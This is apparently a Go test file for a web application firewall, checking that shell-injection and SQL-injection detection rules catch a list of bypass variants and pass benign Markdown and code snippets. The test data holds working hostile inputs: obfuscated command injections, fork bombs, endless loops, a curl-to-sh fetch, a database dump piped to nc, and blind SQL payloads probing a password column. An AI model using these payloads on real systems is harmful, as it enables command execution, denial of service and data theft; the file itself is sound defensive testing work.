package waf

import "testing"

// TestReview93 are a fresh-eyes review's finds in attack 93's fixes (each
// shell spelling ran id under bash or dash, each SQL one answered a
// question about a password on PostgreSQL 15 or MariaDB 10.11).
// Bypasses: other transformers (xargs, sort, cat, expr), a transformer
// by its path or after command, a substitution in quotes, braces or
// after eval; fork bombs by the function keyword, a subshell body,
// $FUNCNAME, names of punctuation and a padded body; loops on [ 1 ],
// test 1, ((1)), /bin/true, ! false, for((i=0;;i++)); a pipe to an
// assignment (| X=1 sh); aws s3 ls and gsutil ls of a bucket (210227);
// PostgreSQL's matches after a call, more functions (210169). False
// positives: Markdown's inline code after a line break or a bracket,
// code's methods (isValid() { ... && ... }), a tutorial's loop after a
// line break (210227).
func TestReview93(t *testing.T) {
	operatorTable(t, "210227", shellSysCommand,
		[]string{"127.0.0.1;\"`dirname id/x`\"",
			"127.0.0.1;{ `dirname id/x`;}", "127.0.0.1;! `dirname id/x`",
			"127.0.0.1;if `rev<<<di`;then :;fi",
			"127.0.0.1;\"`dirname curl/x`\" -s localhost:18934/x|\"`dirname sh/x`\"", "127.0.0.1;`rev<<<hsab`<<<id",
			"127.0.0.1;f()(f|f&);f", "127.0.0.1;f(){ $FUNCNAME|$FUNCNAME& };f",
			"127.0.0.1;@(){ @|@& };@", "127.0.0.1;f(){                                                                       f|f&};f",
			"127.0.0.1;while [ 1 ];do :;done", "127.0.0.1;while test 1;do :;done", "127.0.0.1;while /bin/true;do :;done",
			"127.0.0.1;while \"true\";do :;done", "127.0.0.1;while ! false;do :;done", "127.0.0.1;while true&&true;do :;done",
			"127.0.0.1;while sleep 0;do :;done", "127.0.0.1;while true # x\ndo :;done",
			"127.0.0.1;for((;1;));do :;done", "127.0.0.1;for((i=0;;i++));do :;done",
			"127.0.0.1;pg_dump db | IFS= nc x 80", "127.0.0.1;aws s3 ls --recursive s3://b",
			"127.0.0.1;gsutil ls gs://b"},
		[]string{"127.0.0.1;${IFS}`rev<<<di`", "127.0.0.1;`/usr/bin/dirname id/x`", "127.0.0.1;`cat /tmp/f`", "127.0.0.1;`command dirname id/x`", "127.0.0.1;`expr id`", "127.0.0.1;`sort<<<id`", "127.0.0.1;`xargs<<<id`", "127.0.0.1;eval `dirname id/x`", "127.0.0.1;function f { f|f& };f", "127.0.0.1;psql | X=1 sh", "127.0.0.1;while ((1));do :;done"},
		[]string{"Get the dir; `dirname /a/b.txt` -> /a",
			"\nisValid() { return isValidEmail(x) && isValidName(y) }", "class A {\n  render() { return render1() || render2() }\n}",
			"\n  handle() { this.handler && this.handler() }", "aws s3 ls; gsutil ls"})
	// Markdown the CRS alone refuses as well: the operator must pass it
	// (a configuration with the CRS's command rules excluded sees it)
	for _, v := range []string{"Try this:\n`awk -F, '{print $2}' data.csv | sort`\nand it works", "\n`head -n 5 /var/log/syslog` - first five lines",
		"\n`cut -d: -f1 /etc/passwd`: lists users", "Get the name (`basename /a/b.txt`)", "Use this loop:\nwhile true; do date; sleep 1; done"} {
		if shellSysCommand(v) {
			t.Errorf("210227 matches the benign %q", v)
		}
	}
	operatorTable(t, "210169", sqlQuotedCall,
		[]string{"x' or right(password,1)~'t", "x' or right(password,1) ~~ 't%", "x' or right(password,1) ~* 'T",
			"x' or div(length(password),1)>'5", "x' or normalize(password)>'h", "x' or srid(point(1,1))>'-1"},
		nil,
		[]string{"It's 5' or height(ft)>6", "Men's desk or width(cm)>30", "Size 'L' and width(cm)=50"})
}
